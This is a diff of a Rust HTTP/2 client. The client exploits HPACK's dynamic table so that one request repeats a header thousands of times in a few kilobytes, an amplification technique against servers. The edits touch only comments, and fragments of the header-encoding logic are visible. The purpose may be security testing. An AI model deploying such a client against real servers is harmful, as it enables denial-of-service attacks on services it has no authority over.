@@ -1,4 +1,5 @@
-//! A minimal HTTP/2 client (RFC 9113) that sends a header thousands of times in a few kilobytes.
+//! A minimal HTTP/2 client (RFC 9113). One request of this client can repeat a header thousands of times and needs
+//! only a few kilobytes on the network.
 //!
 //! HPACK (RFC 7541) stores a header of up to 4 KB in a dynamic table. After that, each repetition of the header takes
 //! one byte.
@@ -19,9 +20,9 @@ const GO_AWAY: u8 = 7;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 const ACK: u8 = 1;
-/// The byte for `:status: 200`, which is in HPACK's static table.
+/// The HPACK byte for `:status: 200`, from the static table.
 const STATUS_200: u8 = 0x88;
-/// The byte for the newest header in HPACK's dynamic table.
+/// The HPACK byte for the newest header in the dynamic table.
 const NEWEST: u8 = 0x80 | 62;
 
 /// A header that a request repeats.
@@ -29,9 +30,9 @@ const NEWEST: u8 = 0x80 | 62;
 pub struct Repeated {
     /// The index of the header's name in HPACK's static table.
     pub name: u8,
-    /// The value, of up to 4,000 bytes.
+    /// The value of the header, with up to 4,000 bytes.
     pub value: String,
-    /// The number of repetitions.
+    /// The number of times that the request has the header.
     pub times: usize,
 }
 
@@ -52,7 +53,7 @@ impl Connection {
     ///
     /// # Errors
     ///
-    /// If the server does not accept the connection.
+    /// Returns an error if the server does not accept the connection.
     pub fn open(to: SocketAddr) -> AttackResult<Self> {
         let stream = TcpStream::connect(to)?;
         stream.set_nodelay(true)?;
@@ -63,16 +64,16 @@ impl Connection {
         Ok(connection)
     }
 
-    /// Sends a GET, and returns whether the status of the response is 200.
+    /// Sends a GET request, and returns whether the status of the response is 200.
     ///
     /// # Errors
     ///
-    /// If the server resets the stream or the connection.
+    /// Returns an error if the server resets the stream or the connection.
     pub fn get(&mut self, path: &str, repeated: Option<&Repeated>) -> AttackResult<bool> {
         let id = self.next_id;
         self.next_id += 2;
-        // The static table has `GET`, `http`, and the names `:path` and `:authority`. The client sends the values of
-        // the path and the authority as text, and HPACK does not store them.
+        // The static table has `GET`, `http`, and the names `:path` and `:authority`, so the client sends only their
+        // indexes. The client sends the values of the path and the authority as text that HPACK does not store.
         let mut block = vec![0x82, 0x86, 0x04];
         write_text(&mut block, path);
         block.push(0x01);
@@ -119,7 +120,8 @@ impl Connection {
     }
 }
 
-/// Writes a text without Huffman coding: the number of bytes as an integer with a 7-bit prefix, then the bytes.
+/// Writes a text without Huffman coding: first the number of bytes as an integer with a 7-bit prefix, and then the
+/// bytes.
 fn write_text(block: &mut Vec<u8>, text: &str) {
     const PREFIX: usize = 127;
     if text.len() < PREFIX {
